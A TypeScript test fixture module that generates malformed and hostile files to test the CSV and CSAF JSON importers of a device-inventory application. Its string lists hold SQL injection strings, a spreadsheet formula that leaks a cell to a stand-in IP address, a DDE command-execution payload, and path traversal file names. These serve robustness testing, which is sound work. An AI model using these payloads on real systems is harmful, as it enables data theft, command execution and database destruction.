/**
 * Hand-made nasty inputs for every importer and the API surface. Large ones are generated on the
 * fly (nothing of megabytes is committed). Each file is bytes, as it would come off a USB stick;
 * `asUploaded` turns them into the text the UI passes to the API (a File read as UTF-8, the way
 * browsers and Electron read it: invalid bytes become U+FFFD).
 */
import fs from 'node:fs';
import path from 'node:path';
import { fixturesDir } from '../temp-runtime';

export interface NastyFile {
  /** What is wrong with it, for the test's name. */
  label: string;
  fileName: string;
  bytes: Buffer;
  /** Words one of which a refusal's message must contain (it names the problem); none: any message. */
  expect?: RegExp;
}

export const asUploaded = (file: NastyFile): string => new TextDecoder('utf-8').decode(file.bytes);

const utf8 = (text: string) => Buffer.from(text, 'utf8');

function utf16leWithBom(text: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

/** A real CSAF advisory from the shared fixtures (the smallest, so that variants stay small). */
export function realAdvisory(): { fileName: string; text: string } {
  const dir = path.join(fixturesDir, 'csaf');
  const file =
    fs
      .readdirSync(dir)
      .filter((f) => f.endsWith('.json'))
      .map((f) => ({ f, size: fs.statSync(path.join(dir, f)).size }))
      .sort((a, b) => a.size - b.size)[0]?.f ?? '';
  return { fileName: file, text: fs.readFileSync(path.join(dir, file), 'utf8') };
}

/** The strings that break naive code: quotes, SQL, formulas, control and bidi characters, paths. */
export const nastyStrings: readonly string[] = [
  "'; DROP TABLE devices; --",
  "Robert'); DELETE FROM audit_events; --",
  '" OR 1=1 --',
  '=HYPERLINK("http://192.0.2.1/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  'Sie\u202Emens', // right-to-left override: "Siemens" displayed reversed in part
  '\u200F\u200E\u061C\u2066mixed\u2069',
  'bell\u0007 backspace\u0008 escape\u001b[31m red',
  'line\r\nbreak\rand\nmore',
  '\uFEFFleading byte order mark',
  '\uD800 lone surrogate',
  '../../etc/passwd',
  '..\\..\\x',
  'C:\\Windows\\x',
  'nul\u0000byte',
  'CON',
  '%00%2e%2e%2f',
  '𝕊𝕥𝕒𝕟𝕕𝕒𝕝𝕠𝕟𝕖 👩‍⚕️',
  'A'.repeat(5000),
];

/** File names a hostile file may carry: traversal, drive letters, NUL, reserved names. */
export const nastyFileNames: readonly string[] = [
  '../../etc/passwd',
  '..\\..\\x.csv',
  'C:\\Windows\\x.json',
  'inventory\u0000.csv',
  '/absolute/path.csv',
  'CON.csv',
  '\u202Ecsv.exe',
  ' ',
];

const inventoryHeader = 'asset_tag,vendor,model,product_family,os,os_version,department,notes';

function csv(rows: string[][]): string {
  const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return [inventoryHeader, ...rows.map((r) => r.map(cell).join(','))].join('\r\n') + '\r\n';
}

/** Nasty inventory files (CSV). */
export function nastyInventories(): NastyFile[] {
  const good = csv([
    ['HOSTILE-1', 'Siemens', 'Symbia T6', 'SPECT/CT', 'Windows 7', 'SP1', 'Nuclear Medicine', ''],
  ]);
  const size12MB = 12 * 1024 * 1024;
  return [
    { label: 'empty file', fileName: 'empty.csv', bytes: Buffer.alloc(0) },
    { label: 'header only', fileName: 'header.csv', bytes: utf8(`${inventoryHeader}\n`) },
    {
      label: 'truncated in a quoted field',
      fileName: 'cut.csv',
      bytes: utf8(good + 'HOSTILE-2,"Siemens, unterminated'),
    },
    {
      label: '12 MB of one unbroken line',
      fileName: 'huge-line.csv',
      bytes: Buffer.concat([utf8(`${inventoryHeader}\n`), Buffer.alloc(size12MB, 0x41)]),
    },
    {
      // Every row has the same asset tag: a file this size must be refused fast, not half-imported.
      label: '12 MB of rows, all with one asset tag',
      fileName: 'huge-rows.csv',
      bytes: utf8(
        inventoryHeader +
          '\n' +
          `BULK,Vendor,Model,CT,Linux,1,Radiology,${'n'.repeat(40)}\n`.repeat(
            Math.ceil(size12MB / 80),
          ),
      ),
    },
    {
      label: 'UTF-16 with a byte order mark',
      fileName: 'utf16.csv',
      bytes: utf16leWithBom(good),
      expect: /UTF|character|binary|NUL/i,
    },
    {
      label: 'Latin-1 bytes',
      fileName: 'latin1.csv',
      bytes: Buffer.from(
        `${inventoryHeader}\nHOSTILE-L1,Gerätebau Müller,Röntgen,CT,Windows,7,Radiologie,\n`,
        'latin1',
      ),
      expect: /UTF-8|character/i,
    },
    {
      label: 'binary (a PNG header and NUL bytes)',
      fileName: 'image.csv',
      bytes: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
    },
    {
      label: 'a NUL byte in a cell',
      fileName: 'nul.csv',
      bytes: utf8(csv([['HOSTILE-N', 'Sie\u0000mens', 'M', 'CT', 'W', '7', 'D', '']])),
      expect: /NUL|binary/i,
    },
    {
      label: '10,000 columns',
      fileName: 'wide.csv',
      bytes: utf8(
        Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',') +
          '\n' +
          '1,'.repeat(9_999) +
          '1\n',
      ),
    },
    {
      label: 'duplicate asset tags',
      fileName: 'dupes.csv',
      bytes: utf8(
        csv([
          ['DUP-1', 'A', 'B', 'CT', 'W', '7', 'D', ''],
          ['DUP-1', 'A', 'B', 'CT', 'W', '7', 'D', ''],
        ]),
      ),
    },
    {
      label: 'SQL, formulas, control and bidi characters in every cell',
      fileName: 'strings.csv',
      bytes: utf8(
        csv(
          nastyStrings
            .filter((s) => !s.includes('\u0000'))
            .map((s, i) => [`NASTY-${i}`, s, s, s, s, s, s, s]),
        ),
      ),
    },
    {
      label: 'huge numbers and odd values in typed columns',
      fileName: 'numbers.csv',
      bytes: utf8(
        'asset_tag,clinical_criticality,remote_update_capable,ip_address,mac_address\n' +
          'NUM-1,1e309,18446744073709551616,999.999.999.999,zz:zz:zz:zz:zz:zz\n' +
          'NUM-2,-0,NaN,::ffff:1.2.3.4.5,00-1B-44-11-3A\n',
      ),
    },
  ];
}

function nested(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

/** Nasty advisory files (CSAF JSON). */
export function nastyAdvisories(): NastyFile[] {
  const real = realAdvisory();
  const doc = JSON.parse(real.text) as {
    document: Record<string, unknown> & { title?: string; tracking: Record<string, unknown> };
  };
  const variant = (change: (d: typeof doc) => void) => {
    const copy = structuredClone(doc);
    change(copy);
    return utf8(JSON.stringify(copy));
  };
  return [
    { label: 'empty file', fileName: 'empty.json', bytes: Buffer.alloc(0), expect: /JSON|empty/i },
    {
      label: 'truncated JSON',
      fileName: 'cut.json',
      bytes: utf8(real.text.slice(0, Math.floor(real.text.length / 2))),
      expect: /JSON/i,
    },
    {
      label: 'not JSON at all',
      fileName: 'notes.json',
      bytes: utf8('Dear colleagues, please patch.\n'),
      expect: /JSON/i,
    },
    { label: 'JSON but not an object', fileName: 'array.json', bytes: utf8('[1, 2, 3]') },
    {
      label: 'a JSON string of 12 MB',
      fileName: 'huge.json',
      bytes: utf8(JSON.stringify('x'.repeat(12 * 1024 * 1024))),
      expect: /MB|large/i,
    },
    { label: '10,000 levels of nested arrays', fileName: 'deep.json', bytes: utf8(nested(10_000)) },
    {
      label: '10,000 levels of nesting inside a real advisory',
      fileName: 'deep-csaf.json',
      // Spliced in as text: building it as an object and stringifying it would overflow the stack here.
      bytes: utf8(
        new TextDecoder()
          .decode(variant((d) => (d.document.notes = '__DEEP__')))
          .replace('"__DEEP__"', nested(10_000)),
      ),
    },
    {
      label: 'huge numbers (1e309, 2^64) where versions and scores go',
      fileName: 'numbers.json',
      bytes: utf8(
        real.text
          .replace(/"base_score":\s*[\d.]+/g, '"base_score": 1e309')
          .replace(/"version":\s*"[^"]*"/, '"version": 18446744073709551616'),
      ),
    },
    {
      label: 'UTF-16 with a byte order mark',
      fileName: 'utf16.json',
      bytes: utf16leWithBom(real.text),
      expect: /JSON|UTF|character|binary|NUL/i,
    },
    {
      label: 'Latin-1 bytes in a title',
      fileName: 'latin1.json',
      bytes: Buffer.from(
        variant((d) => (d.document.title = 'Gerät für Röntgen')).toString('utf8'),
        'latin1',
      ),
    },
    {
      label: 'SQL, control and bidi characters in the title and tracking id',
      fileName: 'strings.json',
      bytes: variant((d) => {
        d.document.title = nastyStrings.filter((s) => !s.includes('\u0000')).join(' | ');
        d.document.tracking.id = "ICSMA-'; DROP TABLE advisories; --";
      }),
    },
    {
      label: 'a NUL byte',
      fileName: 'nul.json',
      bytes: utf8(real.text.replace('"title"', '"ti\u0000tle"')),
      expect: /NUL|binary/i,
    },
    {
      label: 'a byte order mark before real JSON',
      fileName: 'bom.json',
      bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(real.text)]),
    },
    {
      label: 'duplicate keys',
      fileName: 'dup.json',
      bytes: utf8(real.text.replace('{', '{"document": null,')),
    },
  ];
}
